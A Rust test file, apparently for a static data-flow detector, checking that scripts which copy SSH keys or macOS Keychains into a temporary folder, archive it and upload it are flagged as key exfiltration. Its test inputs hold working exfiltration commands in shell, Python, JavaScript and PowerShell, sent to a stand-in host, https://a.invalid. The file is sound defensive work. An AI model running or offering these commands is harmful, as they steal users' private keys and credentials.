//! What is put into a folder goes wherever the folder goes.

use super::language::Language::{JavaScript, PowerShell, Python, Shell};
use super::tests::{tells, told};

/// The keys are sent.
const SENT: &[&str] = &["contact https://a.invalid with  [Keys]"];

#[test]
fn a_folder_that_is_packed_holds_what_was_copied_into_it() {
    for text in [
        "t=$(mktemp -d)\ncp -R ~/.ssh $t/k\ncd $t && zip -qr o.zip . && curl -s -F f=@o.zip https://a.invalid\n",
        "t=$(mktemp -d); cp -R ~/Library/Keychains $t/k; (cd $t; tar cz . | curl -T - https://a.invalid)\n",
        "mkdir -p /tmp/s\ncp ~/notes.md ~/.ssh/id_rsa /tmp/s/\ntar czf /tmp/o.tgz -C /tmp/s .\ncurl -T /tmp/o.tgz https://a.invalid\n",
        "D=/tmp/s; mkdir $D; cat ~/.ssh/id_ed25519 > $D/a.txt; tar -czf - $D | curl --data-binary @- https://a.invalid\n",
        "cp ~/.ssh/id_rsa /tmp/s/\nfor f in /tmp/s/*; do curl -F \"f=@$f\" https://a.invalid; done\n",
    ] {
        tells(Shell, text, SENT);
    }
    for text in [
        "import os, shutil, requests\nd = '/tmp/s'\nos.makedirs(d)\n\
         shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), os.path.join(d, 'a'))\n\
         shutil.make_archive('/tmp/o', 'zip', d)\n\
         requests.post('https://a.invalid', files={'f': open('/tmp/o.zip', 'rb')})\n",
        "import shutil, tempfile, requests\nd = tempfile.mkdtemp()\n\
         shutil.copytree('/root/.ssh', d + '/k')\na = shutil.make_archive('/tmp/o', 'zip', d)\n\
         requests.post('https://a.invalid', data=open(a, 'rb').read())\n",
    ] {
        tells(Python, text, SENT);
    }
    tells(
        JavaScript,
        "const fs = require('fs'), { execSync } = require('child_process');\n\
         const d = '/tmp/s';\nfs.cpSync('/root/.ssh', `${d}/k`, { recursive: true });\n\
         execSync(`tar czf /tmp/o.tgz -C ${d} . && curl -T /tmp/o.tgz https://a.invalid`);\n",
        SENT,
    );
    tells(
        PowerShell,
        "$t = \"$env:TEMP\\s\"\nCopy-Item \"$env:USERPROFILE\\.ssh\\id_rsa\" \"$t\\a\"\n\
         Compress-Archive -Path \"$t\\*\" -DestinationPath \"$env:TEMP\\o.zip\"\n\
         Invoke-RestMethod -Uri https://a.invalid -Method Post -InFile \"$env:TEMP\\o.zip\"\n",
        SENT,
    );
}

#[test]
fn a_folder_that_is_packed_holds_nothing_that_lies_beside_it() {
    for text in [
        "cp ~/.ssh/id_rsa /tmp/k\nmkdir /tmp/s; cp notes.md /tmp/s/\ntar czf /tmp/o.tgz -C /tmp/s .\ncurl -T /tmp/o.tgz https://a.invalid\n",
        "cp ~/.ssh/id_rsa /tmp/s2/k\ntar czf /tmp/o.tgz /tmp/s\ncurl -T /tmp/o.tgz https://a.invalid\n",
        "cd /srv/site && tar cz . | curl -T - https://a.invalid\ncp ~/.ssh/id_rsa /tmp/s/k\n",
    ] {
        let told = told(Shell, text);
        let is_bad = |line: &&String| line.starts_with("contact") && line.contains("[Keys]");
        assert_eq!(told.iter().find(is_bad), None, "{text}");
    }
}
